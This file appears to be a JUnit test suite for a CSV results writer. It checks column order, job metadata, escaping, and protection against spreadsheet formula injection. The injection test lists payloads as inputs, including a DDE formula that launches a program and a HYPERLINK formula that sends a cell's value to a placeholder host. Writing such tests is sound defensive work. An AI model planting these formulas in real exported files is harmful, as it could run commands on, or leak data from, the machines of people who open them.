package org.sluice.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.sluice.job.Program;
import org.sluice.job.Usage;
import org.sluice.job.Verdict;

class ResultsCsvTest {
    @TempDir
    private Path directory;

    @Test
    void everyJobHasALineInTheOrderOfTheJobFile() throws IOException {
        SampleBatch batch = new SampleBatch()
                .job("first")
                .job("second")
                .ran("lab2", 1, 3, 4.5, Verdict.PASSED)
                .job("third")
                .begun("lab1", 1, 5);
        batch.ranOf("first", "lab1", 2, 0, 8, Verdict.FAILED);

        assertThat(written(batch))
                .isEqualTo("number,name,verdict,reason,flaky,consumer,slot,attempts,started,wall_seconds,user_seconds,"
                        + "system_seconds,peak_bytes,stdout_bytes,stderr_bytes,exit,labels,remarks,command\r\n"
                        + "1,first,failed,because,no,lab1,2,1,2026-11-24T09:15:00.250Z,8.000,,,,0,0,0,,,"
                        + "./run-case.sh first\r\n"
                        + "2,second,passed,,no,lab2,1,1,2026-11-24T09:15:03.250Z,1.500,,,,0,0,0,,,"
                        + "./run-case.sh second\r\n"
                        + "3,third,,,,,,1,,,,,,,,,,,./run-case.sh third\r\n");
    }

    @Test
    void whatAFlakyJobTookIsTold() throws IOException {
        SampleBatch batch = new SampleBatch()
                .job("Test 1", new Program.Direct(List.of("preproc")), new Program.Direct(List.of("solver", "a b")))
                .labels("nightly", "3d")
                .retried("lab2", Verdict.FAILED, "solver exited 3", 3)
                .verdict(Verdict.PASSED, "", 0, 2)
                .with(new Usage(Duration.ofMillis(1234), Duration.ofMillis(50), 1_048_576), "left 2 processes", "late");

        assertThat(rows(batch).get(0))
                .containsEntry("flaky", "yes")
                .containsEntry("attempts", "2")
                .containsEntry("user_seconds", "1.234")
                .containsEntry("system_seconds", "0.050")
                .containsEntry("peak_bytes", "1048576")
                .containsEntry("stdout_bytes", "12")
                .containsEntry("exit", "2")
                .containsEntry("labels", "nightly,3d")
                .containsEntry("remarks", "left 2 processes; late")
                .containsEntry("command", "preproc && solver 'a b'");
    }

    @Test
    void commasQuotesAndLineBreaksDoNotBreakAColumn() throws IOException {
        SampleBatch batch = new SampleBatch()
                .job("a,\"b\"\r\nc;\u0000\uD83D", new Program.Direct(List.of("run", "x,y")))
                .verdict(Verdict.FAILED, "one,\"two\"\n", 1);

        assertThat(rows(batch)).hasSize(1);
        assertThat(rows(batch).get(0))
                .containsEntry("name", "a,\"b\"\\r\\nc;\\u0000\\ud83d")
                .containsEntry("reason", "one,\"two\"\\n")
                .containsEntry("command", "run x,y");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1,1)",
                " =1+1",
                "\uFF1D1+1",
                "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")"
            })
    void aTextThatASpreadsheetWouldRunHasAnApostropheInFront(String text) throws IOException {
        SampleBatch batch = new SampleBatch()
                .job(text, new Program.Direct(List.of(text)))
                .verdict(Verdict.FAILED, text, 1)
                .with(null, text);

        Map<String, String> row = rows(batch).get(0);
        assertThat(List.of(row.get("name"), row.get("reason"), row.get("remarks")))
                .containsOnly("'" + text);
        assertThat(row.values())
                .allSatisfy(cell -> assertThat(cell)
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("-")
                        .doesNotStartWith("@"));
    }

    @Test
    void aTabThatWouldHideAFormulaIsEscaped() throws IOException {
        assertThat(rows(new SampleBatch().job("\t=1+1").verdict(Verdict.PASSED, ""))
                        .get(0))
                .containsEntry("name", "\\t=1+1");
    }

    private String written(SampleBatch batch) throws IOException {
        Path file = directory.resolve("results.csv");
        ResultsCsv.write(batch.outcome(), file);
        return Files.readString(file);
    }

    private List<Map<String, String>> rows(SampleBatch batch) throws IOException {
        List<List<String>> lines = read(written(batch));
        List<Map<String, String>> rows = new ArrayList<>();
        for (List<String> line : lines.subList(1, lines.size())) {
            assertThat(line).hasSameSizeAs(lines.get(0));
            Map<String, String> row = new LinkedHashMap<>();
            for (int i = 0; i < line.size(); i++) {
                row.put(lines.get(0).get(i), line.get(i));
            }
            rows.add(row);
        }
        return rows;
    }

    /** The lines of a table that was written. */
    static List<List<String>> read(Path table) throws IOException {
        return read(Files.readString(table));
    }

    /** As RFC 4180 has it, section 2. */
    private static List<List<String>> read(String text) {
        List<List<String>> lines = new ArrayList<>();
        List<String> line = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted && c == '"' && text.startsWith("\"\"", i)) {
                cell.append('"');
                i++;
            } else if (c == '"') {
                assertThat(quoted || cell.isEmpty()).isTrue();
                quoted = !quoted;
            } else if (!quoted && (c == ',' || text.startsWith("\r\n", i))) {
                line.add(cell.toString());
                cell.setLength(0);
                if (c == '\r') {
                    lines.add(line);
                    line = new ArrayList<>();
                    i++;
                }
            } else {
                cell.append(c);
            }
        }
        assertThat(line).as("what stands behind the last line").isEmpty();
        return lines;
    }
}
